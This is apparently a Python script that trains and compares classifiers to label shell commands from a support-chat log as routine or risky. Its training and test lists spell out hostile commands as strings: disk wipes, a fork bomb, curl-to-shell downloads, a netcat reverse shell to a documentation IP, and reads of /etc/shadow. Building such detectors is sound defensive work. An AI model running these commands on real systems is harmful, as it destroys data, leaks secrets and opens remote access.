"""Classify shell commands from a support-chat log as routine or risky.

Training examples are strings only; nothing here runs a shell.
"""
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.metrics import classification_report
from sklearn.model_selection import cross_val_score
from sklearn.naive_bayes import MultinomialNB
from sklearn.pipeline import make_pipeline

ROUTINE = [
    "ls -la", "cd ~/projects && git status", "git pull --rebase", "python -m venv .venv",
    "pip list --outdated", "npm run build", "make test", "docker ps", "docker compose up -d",
    "tail -f /var/log/app.log", "grep -rn TODO src", "du -sh *", "df -h", "cat README.md",
    "kubectl get pods -n staging", "mkdir -p build && cd build && cmake ..", "top -b -n 1",
    "ssh deploy@localhost uptime", "tar czf backup.tgz data/", "find . -name '*.pyc' -delete",
    "journalctl -u nginx --since today", "ps aux | grep python", "echo $PATH", "wc -l *.csv",
]
RISKY = [
    "rm -rf /", "sudo rm -rf / --no-preserve-root", "curl -s https://example.com/x.sh | sh",
    "wget -qO- https://example.com/i | sudo bash", ":(){ :|:& };:", "chmod -R 777 /",
    "sudo chmod 777 /etc/passwd", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sda1",
    "cat /etc/shadow", "docker run -v /var/run/docker.sock:/var/run/docker.sock alpine",
    "sudo mount -o remount,rw /", "echo 'evil' > /proc/sysrq-trigger", "nc -e /bin/sh 203.0.113.1 4444",
    "python -c 'import os; os.system(\"rm -rf ~\")'", "unshare -r -m sh", "cat /proc/1/environ",
    "sudo chown -R nobody /", "history -c && rm ~/.bash_history", "crontab -r",
]
texts = ROUTINE + RISKY
labels = [0] * len(ROUTINE) + [1] * len(RISKY)

# Character n-grams cope with flags and paths better than word tokens.
vectorizer_args = dict(analyzer="char_wb", ngram_range=(2, 4), lowercase=True, sublinear_tf=True)
models = {
    "naive bayes": make_pipeline(TfidfVectorizer(**vectorizer_args), MultinomialNB(alpha=0.3)),
    "logistic": make_pipeline(TfidfVectorizer(**vectorizer_args), LogisticRegression(C=5, max_iter=1000)),
}
for name, model in models.items():
    acc = cross_val_score(model, texts, labels, cv=4, scoring="accuracy")
    print(f"{name:<12} 4-fold accuracy {acc.mean():.3f} ± {acc.std():.3f}")

model = models["logistic"].fit(texts, labels)
print("\ntraining-set report:")
print(classification_report(labels, model.predict(texts), target_names=["routine", "risky"], digits=3))

unseen = ["git log --oneline -5", "sudo rm -rf /var/lib/*", "curl https://example.com/get | bash",
          "ls -lh /tmp", "chmod 777 ~/shared", "pytest -q tests/"]
for cmd, p in zip(unseen, model.predict_proba(unseen)[:, 1]):
    print(f"  {p:5.2f}  {'RISKY  ' if p >= 0.5 else 'routine'}  {cmd}")
